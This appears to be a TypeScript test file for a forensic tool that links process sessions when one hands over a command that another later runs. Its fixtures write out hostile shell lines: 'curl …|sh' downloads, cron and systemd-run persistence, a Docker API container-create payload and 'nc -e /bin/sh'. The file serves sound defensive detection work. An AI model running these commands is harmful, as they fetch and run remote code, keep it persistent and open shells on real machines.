/** Holds when a command that one session carries explains another that runs it, and when not. */
import assert from "node:assert/strict";
import { test } from "node:test";
import {
  sampleInput,
  sampleProcess,
  sampleSignal,
  webContainer,
} from "../../../testing/sample-incident.ts";
import type { ProcessFact } from "../../observe/detect/detect-fact.ts";
import { findCommandLinks } from "./find-command-links.ts";
import { gatherSessions } from "./session.ts";
import { bareWord, commandWords, wordsOf } from "./split-words.ts";

const at = (name: string, second: number) => ({ process: name, entry: name, second });

/** Sessions of one process each, unless they share an entry. */
function linksOf(...processes: readonly ProcessFact[]): readonly string[] {
  const signals = processes.map(({ process, entry, container, node, startUs }) => {
    const times = { firstSeenUs: startUs, lastSeenUs: startUs };
    return sampleSignal({ process, entry, second: 0 }, { container, node, ...times });
  });
  const input = sampleInput({ signals, processes });
  const scene = { ...gatherSessions(input), sessionOf: () => undefined };
  return findCommandLinks({ ...scene, listenersAt: input.listenersAt }).map(
    ({ from, to, why }) => `${from}-${to}: ${why}`,
  );
}

function ran(name: string, second: number, given: Partial<ProcessFact> = {}): ProcessFact {
  const line = '-c "curl 198.51.100.5/k|sh"';
  return sampleProcess(at(name, second), { container: "host:node-1", arguments: line, ...given });
}

const carried = (words: string, binary = "/usr/bin/systemd-run"): ProcessFact =>
  ran("a", 0, { container: webContainer, binary, arguments: words });

test("who hands a command over is the cause of who runs it, however it was quoted", () => {
  const lines = [
    '--on-active=5 /bin/sh -c "curl 198.51.100.5/k|sh"',
    "-c \"echo '* * * * * root curl 198.51.100.5/k|sh' > /mnt/etc/cron.d/x\"",
    '-d {"Cmd":["/bin/sh","-c","curl 198.51.100.5/k|sh"]} http://localhost/containers/create',
    'set x "\\n\\n*/1 * * * * /usr/bin/curl 198.51.100.5/k|sh\\n\\n"',
  ];
  for (const line of lines) {
    assert.deepEqual(
      linksOf(carried(line), ran("b", 60)),
      ["a-b: it handed over the command “curl 198.51.100.5/k|sh”, which the other ran"],
      line,
    );
  }
});

test("who ran it himself handed it to nobody: two victims of one attack stay two", () => {
  const line = "-c \"nohup sh -c 'curl 198.51.100.5/k|sh'\"";
  const own = ran("own", 1, { entry: "a", container: webContainer });
  assert.deepEqual(linksOf(carried(line, "/bin/sh"), own, ran("b", 60)), []);
  assert.deepEqual(linksOf(ran("a", 0), ran("b", 60)), [], "the same command twice");
});

test("who looks for a command that ran before is not its cause", () => {
  const search = ran("a", 30, {
    binary: "/usr/bin/pgrep",
    arguments: '-f "curl 198.51.100.5/k|sh"',
  });
  assert.deepEqual(linksOf(ran("b", 0), search, ran("c", 60)), []);
});

test("another machine, another day, another or a short command tie nothing", () => {
  const line = '--on-active=5 /bin/sh -c "curl 198.51.100.5/k|sh"';
  assert.deepEqual(linksOf(carried(line), ran("b", 60, { node: "node-2" })), []);
  assert.deepEqual(linksOf(carried(line), ran("b", 25 * 3600)), []);
  assert.deepEqual(linksOf(carried(line), ran("b", -5)), []);
  const other = ran("b", 60, { arguments: '-c "curl 198.51.100.5/k2|sh"' });
  assert.deepEqual(linksOf(carried(line), other), []);
  const short = ran("b", 60, { arguments: '-c "id -u"' });
  assert.deepEqual(linksOf(carried('/bin/sh -c "id -u"'), short), []);
});

test("the latest of those who handed it over counts", () => {
  const line = '/bin/sh -c "curl 198.51.100.5/k|sh"';
  const later = { ...carried(line), process: "d", entry: "d", startUs: carried(line).startUs + 9 };
  assert.match(linksOf(carried(line), later, ran("b", 60)).join(), /^d-b/);
});

test("what is handed over once and runs each night goes on with its last run", () => {
  const line = '--on-calendar=daily /bin/sh -c "curl 198.51.100.5/k|sh"';
  const nights = [1, 25, 49, 100].map((hour) => ran(`b${hour}`, hour * 3600));
  const found = linksOf(carried(line), ...nights).map((one) => one.replace(/:.*/, ""));
  assert.deepEqual(found, ["a-b1", "b1-b25", "b25-b49"]);
});

test("words come without quotes, brackets and escapes; hostile lines are bounded", () => {
  assert.deepEqual(wordsOf({ arguments: `-c "a 'b\\n" [c,d]` }), ["-c", "a", "b", "n", "c", "d"]);
  assert.deepEqual(commandWords(ran("b", 0)), ["curl", "198.51.100.5/k|sh"]);
  const plain = { binary: "/usr/bin/nc", arguments: "-e /bin/sh" };
  assert.deepEqual(commandWords(ran("b", 0, plain)), ["nc", "-e", "/bin/sh"]);
  assert.equal(bareWord("/usr/bin/curl"), "curl");
  assert.equal(wordsOf({ arguments: "a b ".repeat(1_000_000) }).length, 512);
  const hostile = carried("curl x ".repeat(600), "/bin/sh");
  assert.deepEqual(linksOf(hostile, ran("b", 60, { arguments: "-c curl x ".repeat(600) })), []);
});

test("thousands of sessions with one command, or with such that begin alike, are quick", () => {
  const count = 5000;
  const same = Array.from({ length: count }, (_, at) =>
    ran(`s${at}`, at, { arguments: '-c "curl -s http://198.51.100.5/k | sh -c x y z"' }),
  );
  assert.deepEqual(linksOf(...same), []);
  const alike = Array.from({ length: count }, (_, at) =>
    ran(`s${at}`, at, { arguments: `-c "curl -s -k -L http://198.51.100.5/${at} | sh"` }),
  );
  assert.deepEqual(linksOf(...alike), []);
});
